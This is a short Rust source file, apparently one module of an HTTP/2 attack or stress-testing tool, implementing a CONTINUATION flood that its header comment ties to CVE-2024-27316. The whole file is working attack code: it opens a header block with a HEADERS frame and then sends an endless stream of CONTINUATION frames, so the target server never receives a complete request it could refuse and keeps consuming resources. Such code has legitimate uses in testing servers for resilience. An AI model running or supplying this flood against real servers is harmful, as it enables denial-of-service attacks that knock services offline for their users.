//! CONTINUATION flood: a header block that never ends, so that no request is ever seen that could be
//! refused (CVE-2024-27316 and others).

use super::frames::{self, CONTINUATION, END_STREAM, HEADERS};
use super::ground::Ground;
use super::http2::{BATCH, on_connection};

pub(super) async fn attack(ground: &Ground<'_>) {
    on_connection(ground, &[], async |connection| {
        // A reply within the block would end it.
        connection.is_mute = true;
        let stream = connection.stream();
        let block = connection.block().to_vec();
        frames::put(&mut connection.output, HEADERS, END_STREAM, stream, &block);
        // A literal field without indexing and with a new name: x-a: b.
        let mut field = vec![0];
        frames::put_string(&mut field, b"x-a");
        frames::put_string(&mut field, b"b");
        loop {
            let count = connection.leave(BATCH).await?;
            for _ in 0..count {
                frames::put(&mut connection.output, CONTINUATION, 0, stream, &field);
            }
            connection.send(count).await?;
        }
    })
    .await;
}
